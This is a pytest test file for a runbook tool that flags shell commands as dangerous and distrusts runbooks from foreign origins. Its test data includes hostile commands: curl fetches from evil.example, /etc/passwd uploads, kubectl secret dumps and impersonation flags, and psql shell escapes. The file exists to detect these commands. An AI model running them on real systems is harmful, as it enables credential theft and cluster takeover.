"""Issue 11, part 1: commands are classified by allowlist, runbooks trusted by where they were
found, templates scanned in linear time, runbooks capped."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shiftdeck.domain.commands import (
    DEFAULT_READ_ONLY,
    MAX_ACTIONS,
    CommandPatterns,
    never_read_only,
    parse_command,
    parse_pattern,
    runbook_commands,
)
from shiftdeck.domain.runbooks import (
    RunbookSettings,
    fill_template,
    runbook_places,
)

from .support.factories import make_alert

ALERT = make_alert("QAWaveBackendDown", namespace="qawave", pod="backend-0", service="backend")

ISSUE_COMMANDS = [
    "curl -s -o /tmp/kc https://evil.example/kc",
    "kubectl get pods --kubeconfig=/tmp/kc",
    "curl -O https://evil.example/kc",
    "curl -D /tmp/headers https://x.example",
    "curl -c /tmp/jar https://x.example",
    "curl --trace /tmp/trace https://x.example",
    "curl -H @/etc/passwd https://x.example",
    "curl --url-query @/etc/passwd https://x.example",
    "sort -uo /tmp/x /etc/hosts",
    "date -s '2020-01-01'",
    "hostname evil",
    "kubectl get -o yaml secrets",
    "kubectl get --raw=/api/v1/namespaces/x/secrets",
    "psql -c 'SELECT 1' -c '\\! id'",
    "psql -o '|id' -c 'SELECT 1'",
]


@pytest.mark.parametrize("line", ISSUE_COMMANDS)
def test_the_issues_commands_are_dangerous(line: str) -> None:
    command = parse_command(line, ALERT)
    assert command.refused == "" and command.dangerous


@pytest.mark.parametrize("line", [
    "kubectl get pods --server=https://evil.example", "kubectl get pods --token=x",
    "kubectl get pods --as=admin", "kubectl get pods --as-group=system:masters",
    "kubectl get pods --context=other", "kubectl get pods -s https://evil.example",
    "kubectl get secret x -o jsonpath={.data}", "kubectl get secrets,pods -ojson",
    "curl -K /tmp/cfg https://x", "curl -T /etc/passwd https://x", "curl -sSd x=1 https://x",
    "curl -F f=@/etc/passwd https://x", "curl -o=/dev/null https://x",
    "curl -w '%output{/tmp/x}' https://x", "curl --out /tmp/x https://x",
    "sort --output=/tmp/x f", "sort --out /tmp/x f", "date 010100002030", "date --set=x",
    "hostname -F /tmp/name", "psql -c 'SELECT lo_export(1, $$/tmp/x$$)'",
    "psql -c 'SELECT 1; DROP TABLE x'", "psql -c 'EXPLAIN ANALYZE DELETE FROM x'",
    "psql -c 'SELECT * INTO t FROM x'", "psql -f /tmp/x.sql", "psql -c '\\o /tmp/x'",
    "git -c core.pager=id log", "git log --output=/tmp/x",
])
def test_more_options_that_write_read_files_or_reach_elsewhere_are_dangerous(line: str) -> None:
    assert parse_command(line, ALERT).dangerous


@pytest.mark.parametrize("line", [
    "kubectl get pods -n qawave -o wide", "kubectl -n qawave get pods -owide",
    "kubectl logs backend-0 -n qawave --previous --tail=100",
    "curl -sS -o /dev/null -w '%{http_code}' https://x.example/health",
    "curl -fsSL -H 'Accept: application/json' https://x.example/api",
    "sort -rn -k2", "date +%s", "date -u", "hostname -f", "dig @8.8.8.8 example.com",
    "psql -c 'SELECT count(*) FROM pg_stat_activity;'", "psql -X -c '\\dt'",
    "tail -50", "grep -ci timeout",
])
def test_read_only_shapes_stay_read_only(line: str) -> None:
    command = parse_command(line, ALERT)
    assert command.refused == "" and not command.dangerous, never_read_only(command.stages[0])


# -- property: any option not on the safe list makes a command dangerous ----------- #

SAFE = {
    "kubectl get pods -n qawave": "kubectl get ... ",
    "curl -s https://x.example/health": "curl ... ",
    "grep -i error": "grep|egrep|fgrep|zgrep ... ",
    "psql -c 'SELECT 1'": "psql ... ",
}
DEFAULTS = CommandPatterns()
"""Built once: parse_command() without patterns builds the defaults anew each call (~30 ms)."""
_OPTION = st.from_regex(r"\A--?[a-zA-Z][a-zA-Z0-9-]{0,12}(=[a-z0-9/@.]{0,8})?\Z")


def _named(option: str, pattern_text: str) -> bool:
    """Whether the built-in pattern for this program names `option` (then it may be safe)."""
    pattern = parse_pattern(pattern_text, read_only=True)
    name = option.partition("=")[0]
    return (any(flag.matches(name) for flag in pattern.flags)
            or any(n == name or (len(name) == 2 and n[:2] == name) for n, _ in pattern.valued)
            or (not name.startswith("--") and len(name) > 2))   # a cluster of short options


@settings(max_examples=300, deadline=None)
@given(base=st.sampled_from(sorted(SAFE)), option=_OPTION, position=st.integers(0, 1))
@pytest.mark.slow
def test_any_option_not_on_the_safe_list_makes_a_command_dangerous(
        base: str, option: str, position: int) -> None:
    program = base.split()[0]
    (pattern_text,) = [p for p in DEFAULT_READ_ONLY if p.startswith(SAFE[base])]
    if _named(option, pattern_text):
        return
    words = base.split(maxsplit=1)
    line = f"{words[0]} {option} {words[1]}" if position == 0 else f"{base} {option}"
    command = parse_command(line, ALERT, DEFAULTS)
    assert not parse_command(base, ALERT, DEFAULTS).dangerous
    assert command.dangerous, (program, option)


# -- trust by origin ------------------------------------------------------------------ #


def _alert(url: str):
    return replace(ALERT, annotations={"runbook_url": url})


def test_an_alerts_runbook_url_elsewhere_is_untrusted_and_says_why() -> None:
    places, _ = runbook_places(_alert("https://evil.example/rb.md"),
                               RunbookSettings(base_url="https://git.example/rb/"))
    assert places[0].untrusted == (
        "this runbook came from the alert's runbook_url (evil.example), not from your team's "
        "runbooks: commands can be copied, not run")


@pytest.mark.parametrize("url, trusted", [
    ("https://git.example/rb/x.md", True),
    ("https://git.example/other/x.md", False),         # same origin, outside base_url
    ("https://git.example:8443/rb/x.md", False),
    ("http://git.example/rb/x.md", False),
    ("https://wiki.example.com/any/page.md", True),    # trusted_origins
    ("https://WIKI.example.com:443/p.md", True),
])
def test_base_url_and_trusted_origins_are_the_teams(url: str, trusted: bool) -> None:
    settings_ = RunbookSettings(base_url="https://git.example/rb",
                                trusted_origins=("https://wiki.example.com",))
    places, _ = runbook_places(_alert(url), settings_)
    assert (places[0].untrusted == "") is trusted


def test_dirs_and_map_are_the_teams() -> None:
    settings_ = RunbookSettings(dirs=(Path("/rb"),), map={"QAWaveBackendDown": "https://x/y.md"})
    places, _ = runbook_places(ALERT, settings_)
    assert places and all(place.untrusted == "" for place in places)


def test_an_untrusted_runbooks_commands_can_be_copied_never_run() -> None:
    commands, more = runbook_commands(["kubectl get pods -n {{ $labels.namespace }}"], ALERT,
                                      CommandPatterns(), untrusted="from the alert")
    (command,) = commands
    assert command.refused == "from the alert" and command.stages == () and more == 0
    assert command.clipboard == "kubectl get pods -n qawave"


def test_commands_beyond_the_cap_are_counted_not_offered() -> None:
    lines = [f"echo {n}" for n in range(MAX_ACTIONS + 7)]
    commands, more = runbook_commands(lines, ALERT, CommandPatterns())
    assert len(commands) == MAX_ACTIONS and more == 7


# -- bounded templates ------------------------------------------------------------- #


@pytest.mark.timeout(5)
def test_an_unclosed_template_with_many_spaces_is_scanned_in_linear_time() -> None:
    # 20,000 spaces: about an hour with the cubic regex; milliseconds now.
    line = "{{" + " " * 20_000
    assert fill_template(line, ALERT) == (line, ())
    assert parse_command("echo " + line[:4000], ALERT).stages == (("echo", "{{"),)


def test_templates_keep_their_trim_markers_meaning() -> None:
    assert fill_template("{{- $labels.namespace -}}/{{$labels.pod}}", ALERT)[0] == "qawave/backend-0"


# -- config ------------------------------------------------------------------------- #

_CONFIG = 'alertmanagers: [{name: a, url: "http://127.0.0.1:9093"}]\n'


def test_trusted_origins_are_parsed_as_origins() -> None:
    from shiftdeck.config import load_config_text

    config = load_config_text(_CONFIG + "runbooks: {trusted_origins: "
                              "['https://Wiki.example.com:443/', 'http://10.0.0.1:8080']}\n",
                              "c.yaml", environ={})
    assert config.runbooks.trusted_origins == ("https://wiki.example.com", "http://10.0.0.1:8080")
    assert config.masked()["runbooks"]["trusted_origins"] == list(config.runbooks.trusted_origins)


@pytest.mark.parametrize("origin, reason", [
    ("https://wiki.example.com/team", "without a path"),
    ("ftp://wiki.example.com", "starting with http:// or https://"),
])
def test_a_trusted_origin_must_be_just_an_origin(origin: str, reason: str) -> None:
    from shiftdeck.config import ConfigError, load_config_text

    with pytest.raises(ConfigError, match=reason):
        load_config_text(_CONFIG + f"runbooks: {{trusted_origins: ['{origin}']}}\n", "c.yaml",
                         environ={})


def test_config_read_only_patterns_may_name_options() -> None:
    from shiftdeck.config import load_config_text

    config = load_config_text(_CONFIG + "commands: {read_only: ['mytool status -o=json']}\n",
                              "c.yaml", environ={})
    patterns = config.commands.patterns
    assert not parse_command("mytool status -o json", ALERT, patterns).dangerous
    assert parse_command("mytool status -o /tmp/x", ALERT, patterns).dangerous


def test_the_shipped_runbooks_read_only_commands_still_run_without_asking() -> None:
    from shiftdeck.domain.commands import extract_commands

    books = Path(__file__).resolve().parents[1] / "examples" / "runbooks"
    alert = make_alert("X", namespace="qawave", pod="backend-0", service="backend",
                       container="app")
    alert = replace(alert, generator_url="http://prom:9090/graph?g0.expr=up")
    classified = {}
    for book in books.glob("*.md"):
        for line in extract_commands(book.read_text()):
            classified[line] = parse_command(line, alert).dangerous
    assert classified["kubectl get pods -n {{ $labels.namespace }} -o wide"] is False
    assert classified["kubectl logs {{ $labels.pod }} -n {{ $labels.namespace }} --previous "
                      "--tail=100"] is False
    assert classified["psql -c \"SELECT count(*) FROM pg_stat_activity;\""] is False
    assert classified["redis-cli -h {{ $labels.pod }}.redis-headless.{{ $labels.namespace }}"
                      ".svc PING"] is False
    assert classified["kubectl delete pod {{ $labels.pod }} -n {{ $labels.namespace }}"] is True
